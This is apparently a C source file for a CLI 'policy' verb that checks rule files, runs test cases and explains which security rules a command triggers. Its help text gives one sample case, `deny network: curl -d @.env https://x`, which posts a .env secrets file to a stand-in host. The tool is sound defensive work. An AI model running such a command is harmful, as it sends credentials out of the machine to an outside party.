#include <fcntl.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/fs.h"
#include "cli/style.h"
#include "cli/verb.h"
#include "security/policy/cases.h"
#include "security/policy/policy.h"

enum { FILE_MAX = 1 << 20 };

enum policy_what { POLICY_CHECK, POLICY_TEST, POLICY_EXPLAIN };
static const char *const what_words[] = {"check", "test", "explain", NULL};

struct policy_options {
    int what;
    struct tn_str_list given;
    struct tn_str_list rules;
    bool shipped;
    char *cwd;
};

#define POLICY struct policy_options
static const struct tn_field rows[] = {
    TN_WORD("what", POLICY, what, what_words, .flags = TN_FIELD_POSITIONAL | TN_FIELD_REQUIRED,
            .value = "check|test|explain", .help = "what to do"),
    TN_STRINGS("given", POLICY, given, .flags = TN_FIELD_POSITIONAL, .value = "FILE|COMMAND",
               .help = "check: files of rules; test: files of cases; explain: a command"),
    TN_STRINGS(
        "rules", POLICY, rules, .flag = "--rules", .letter = 'r', .value = "FILE",
        .help = "rules to go by besides those of the configuration (may be given several times)"),
    TN_BOOL("shipped", POLICY, shipped, .flag = "--default", .fallback = "true",
            .help = "go by the rules that ship, too"),
    TN_STRING("cwd", POLICY, cwd, .flag = "--cwd", .value = "DIR", .fallback = "/workspace",
              .help = "explain: the directory of the shell"),
};
static const struct tn_fields options_table = TN_FIELDS(rows);

/* --- check ------------------------------------------------------------------------------------ */

static int check(struct cli *cli, const struct policy_options *o, struct tn_error *err)
{
    tn_autobuf struct tn_buf out = TN_BUF_INIT(1 << 20);
    struct tn_jw w = tn_jw(&out);

    if (!o->given.count)
        return tn_fail(err, TN_E_INVALID, "which file? tendon policy check FILE...");
    tn_jw_array(&w);
    for (size_t i = 0; i < o->given.count; i++) {
        tn_autopolicy struct tn_policy *p = tn_policy_new(false, &o->given.items[i], 1, err);
        if (!p)
            return -1;
        if (cli->json) {
            tn_jw_object(&w);
            tn_jw_kstr(&w, "file", o->given.items[i]);
            tn_jw_kint(&w, "rules", (int64_t)tn_policy_count(p));
            tn_jw_object_end(&w);
        } else {
            printf("%s: %zu rules\n", o->given.items[i], tn_policy_count(p));
        }
    }
    tn_jw_array_end(&w);
    return cli->json ? cli_print(&out, err) : 0;
}

/* --- test ------------------------------------------------------------------------------------- */

struct tally {
    const struct tn_policy *policy;
    const char *file;
    size_t cases, failed;
    bool json, colour;
    struct tn_jw *w;
};

static void put_failure(const struct tally *t, const struct tn_policy_case *c,
                        const struct tn_verdict *v, enum tn_decision got)
{
    static const char *const words[] = {"allow", "ask", "deny"};

    printf("%s%s:%d%s: expected %s%s%s, found %s: %s\n", t->colour ? STYLE_RED : "", t->file,
           c->line, t->colour ? STYLE_PLAIN : "", words[c->want], *c->rule ? " " : "", c->rule,
           words[got], c->title);
    for (size_t i = 0; i < v->count; i++)
        printf("    %s (%s) %s\n", v->findings[i].rule, tn_risk_word(v->findings[i].risk),
               v->findings[i].part);
}

static int try_case(const struct tn_policy_case *c, void *ctx, struct tn_error *err)
{
    struct tally *t = ctx;
    tn_autoverdict struct tn_verdict v = {0};
    enum tn_decision got;

    if (tn_policy_judge(t->policy, &c->given, TN_NEVER, &v, err))
        return -1;
    t->cases++;
    if (tn_policy_case_holds(c, &v, &got))
        return 0;
    t->failed++;
    if (!t->json) {
        put_failure(t, c, &v, got);
        return 0;
    }
    tn_jw_object(t->w);
    tn_jw_kstr(t->w, "file", t->file);
    tn_jw_kint(t->w, "line", c->line);
    tn_jw_kstr(t->w, "case", c->title);
    tn_jw_kstr(t->w, "expected", tn_decision_words[c->want]);
    tn_jw_kstr(t->w, "found", tn_decision_words[got]);
    tn_jw_object_end(t->w);
    return 0;
}

static int test(struct cli *cli, const struct policy_options *o, const struct tn_policy *p,
                struct tn_error *err)
{
    tn_autobuf struct tn_buf out = TN_BUF_INIT(16 << 20);
    struct tn_jw w = tn_jw(&out);
    struct tally t = {.policy = p, .json = cli->json, .colour = style_wanted(stdout), .w = &w};

    if (!o->given.count)
        return tn_fail(err, TN_E_INVALID, "which file? tendon policy test FILE...");
    tn_jw_object(&w);
    tn_jw_key(&w, "failures");
    tn_jw_array(&w);
    for (size_t i = 0; i < o->given.count; i++) {
        tn_autobuf struct tn_buf text = TN_BUF_INIT(FILE_MAX);
        t.file = o->given.items[i];
        if (tn_fs_read(AT_FDCWD, t.file, &text, err) ||
            tn_policy_cases(t.file, tn_buf_str(&text), text.len, try_case, &t, err))
            return -1;
    }
    tn_jw_array_end(&w);
    tn_jw_kint(&w, "cases", (int64_t)t.cases);
    tn_jw_kint(&w, "failed", (int64_t)t.failed);
    tn_jw_object_end(&w);
    if (!cli->json)
        printf("%zu cases, %zu failed\n", t.cases, t.failed);
    else if (cli_print(&out, err))
        return -1;
    return t.failed ? 1 : 0;
}

/* --- explain ---------------------------------------------------------------------------------- */

static const char *risk_style(enum tn_risk risk)
{
    return risk == TN_RISK_HIGH ? STYLE_RED : risk == TN_RISK_LOW ? STYLE_GREEN : STYLE_YELLOW;
}

static void put_findings(const struct tn_policy *p, const struct tn_verdict *v)
{
    bool colour = style_wanted(stdout);

    for (size_t i = 0; i < v->count; i++) {
        const struct tn_finding *f = &v->findings[i];
        tn_autofree char *place = tn_policy_place(p, f->rule);
        printf("%s%-7s%s %s%s%s  %s\n", colour ? risk_style(f->risk) : "", tn_risk_word(f->risk),
               colour ? STYLE_PLAIN : "", colour ? STYLE_BOLD : "", f->rule,
               colour ? STYLE_PLAIN : "", f->text);
        if (*f->part)
            printf("        %s\n", f->part);
        printf("        %s%s%s\n", colour ? STYLE_DIM : "", place ? place : "",
               colour ? STYLE_PLAIN : "");
    }
    if (!v->count)
        printf("%slow%s     no rule speaks of it\n", colour ? STYLE_GREEN : "",
               colour ? STYLE_PLAIN : "");
}

/* The decision by the table of risks, as if somebody were there to be asked. */
static void decide(const struct tn_config *config, struct tn_verdict *v)
{
    struct tn_thresholds table = tn_security_thresholds(&config->security);

    table.mode = TN_CONFIRM_RISKY;
    v->decision = tn_thresholds_decide(&table, TN_RISK_LOW);
    for (size_t i = 0; i < v->count; i++) {
        enum tn_risk risk = v->findings[i].risk;
        enum tn_decision decision = tn_thresholds_decide(&table, risk);
        if (decision > v->decision || (decision == v->decision && tn_risk_exceeds(risk, v->risk))) {
            v->decision = decision;
            v->risk = risk;
        }
    }
}

static int explain(struct cli *cli, const struct policy_options *o, const struct tn_policy *p,
                   struct tn_error *err)
{
    const struct tn_config *config = cli_config(cli, err);
    tn_autoaction struct tn_action a = {.type = TN_ACTION_NULL};
    tn_autoverdict struct tn_verdict v = {0};
    tn_autobuf struct tn_buf out = TN_BUF_INIT(1 << 20);
    struct tn_jw w = tn_jw(&out);

    if (!config)
        return -1;
    if (o->given.count != 1)
        return tn_fail(err, TN_E_INVALID,
                       "expected one command, in quotes: tendon policy explain 'git push -f'");
    tn_action_init_run(&a, o->given.items[0], 0);
    struct tn_case c = {.action = &a, .cwd = *o->cwd ? o->cwd : NULL};
    if (tn_policy_judge(p, &c, TN_NEVER, &v, err))
        return -1;
    decide(config, &v);
    if (!cli->json) {
        put_findings(p, &v);
        return 0;
    }
    tn_verdict_to_json(&v, &w);
    return cli_print(&out, err);
}

/* The configured rules and those of --rules. */
static struct tn_policy *open_rules(struct cli *cli, const struct policy_options *o,
                                    struct tn_error *err)
{
    const struct tn_config *config = cli_config(cli, err);

    if (!config)
        return NULL;
    const struct tn_str_list *own = &config->security.policies;
    tn_autofree char **files = tn_calloc(own->count + o->rules.count, sizeof *files);
    for (size_t i = 0; i < own->count; i++)
        files[i] = own->items[i];
    for (size_t i = 0; i < o->rules.count; i++)
        files[own->count + i] = o->rules.items[i];
    return tn_policy_new(o->shipped && config->security.default_policy, files,
                         own->count + o->rules.count, err);
}

static int run(struct cli *cli, const void *given, struct tn_error *err)
{
    const struct policy_options *o = given;

    if (o->what == POLICY_CHECK)
        return check(cli, o, err);
    tn_autopolicy struct tn_policy *p = open_rules(cli, o, err);
    if (!p)
        return -1;
    return o->what == POLICY_TEST ? test(cli, o, p, err) : explain(cli, o, p, err);
}

const struct verb verb_policy = {
    .name = "policy",
    .group = VERB_SYSTEM,
    .summary = "check, test and explain the rules that judge actions",
    .details =
        "check reads files of rules and names the first mistake with its line. test tries files of\n"
        "cases, such as `allow: git status` and `deny network: curl -d @.env https://x`, and exits\n"
        "with 1 when one does not hold. explain says which rules a command meets, which part of it,\n"
        "and where the rule stands. Nothing is run; the rules are those of security.policies,\n"
        "security.default_policy and --rules. A file that ends with .toml holds rules in TOML,\n"
        "every other one rules in Invariant's language; docs/policy.md describes both.",
    .options = &options_table,
    .options_size = sizeof(struct policy_options),
    .run = run,
};
